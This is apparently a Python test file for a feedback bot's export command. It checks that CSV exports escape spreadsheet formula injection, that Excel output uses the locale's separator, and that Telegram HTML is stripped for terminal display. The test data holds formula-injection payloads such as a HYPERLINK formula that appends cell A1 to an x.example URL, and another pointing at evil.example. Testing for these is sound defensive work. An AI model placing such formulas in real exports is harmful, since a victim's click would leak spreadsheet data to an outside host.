"""CSV exports are safe in spreadsheets (and shaped for Excel on request); terminal text has no HTML."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from bot.cli.main import app
from bot.cli.terminal_text import terminal_text
from bot.privacy.csv_safety import excel_delimiter, locale_language, safe_cell
from bot.privacy.export import write_rows
from storage import migrate
from storage.db import Database
from storage.tables import Response

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+39 333", "-2+3", "@SUM(A1)", "\t=1", "ok = fine"]


def test_cells_that_start_a_formula_are_prefixed() -> None:
    """Text starting with = + - @ (or tab/CR) gets a leading ', anything else is unchanged."""
    assert [safe_cell(v) for v in HOSTILE] == [
        '\'=HYPERLINK("http://x.example/?"&A1,"clic")',
        "'+39 333",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "ok = fine",
    ]
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_write_rows_csv_escapes_every_cell() -> None:
    """The export's CSV writer runs each cell through the formula guard; JSON lines stay verbatim."""
    rows = [{"customer_id": "c1", "comment": HOSTILE[0], "topics": ["=cmd", "ok"]}]
    out = io.StringIO()
    write_rows(iter(rows), out, "csv", ("customer_id", "comment", "topics"))
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert parsed[0]["comment"].startswith("'=HYPERLINK") and parsed[0]["topics"] == "'=cmd;ok"
    jsonl = io.StringIO()
    write_rows(iter(rows), jsonl, "jsonl", ("customer_id",))
    assert '"comment": "=HYPERLINK' in jsonl.getvalue()


@pytest.mark.parametrize(
    ("environ", "delimiter"),
    [
        ({"LANG": "it_IT.UTF-8"}, ";"),
        ({"LC_ALL": "de_DE"}, ";"),
        ({"LANG": "en_GB.UTF-8"}, ","),
        ({"LANG": "C"}, ","),
    ],
)
def test_excel_separator_follows_the_locale(environ: dict[str, str], delimiter: str) -> None:
    """Excel's list separator: ';' in decimal-comma locales (it, de…), ',' elsewhere."""
    assert excel_delimiter(locale_language(environ)) == delimiter


def test_export_excel_writes_a_bom_and_the_locale_separator(tmp_path: Path) -> None:
    """`cxbot export --format csv --excel`, Italian locale: UTF-8 BOM, ';' separated, formulas escaped."""
    url = f"sqlite:///{tmp_path / 'x.db'}"
    db = Database(url)
    migrate.upgrade(db)
    with db.write() as session:
        session.add(
            Response(
                customer_id="c1",
                order_id="o1",
                stage="delivered",
                metric="csat",
                score=1,
                comment='=HYPERLINK("http://evil.example","clic")',
                language="it",
                channel="telegram",
                answered_at=datetime(2026, 11, 17, 10, 0, tzinfo=UTC),
            )
        )
    db.dispose()
    out = tmp_path / "answers.csv"
    result = CliRunner().invoke(
        app,
        ["export", "--format", "csv", "--excel", "--out", str(out)],
        env={"CXBOT_DATABASE_URL": url, "LANG": "it_IT.UTF-8", "LC_ALL": ""},
    )
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["comment"] == '\'=HYPERLINK("http://evil.example","clic")'
    bad = CliRunner().invoke(app, ["export", "--excel"], env={"CXBOT_DATABASE_URL": url})
    assert bad.exit_code == 2 and "--excel needs --format csv" in bad.stderr


def test_terminal_text_drops_telegram_html() -> None:
    """Tags go, links keep their address, entities are decoded."""
    html = "📊 <b>Riepilogo</b> &amp; <i>note</i> &lt;3\n"
    html += '<a href="https://x.example/r">report</a> <code>NPS</code>'
    assert terminal_text(html) == "📊 Riepilogo & note <3\nreport (https://x.example/r) NPS"
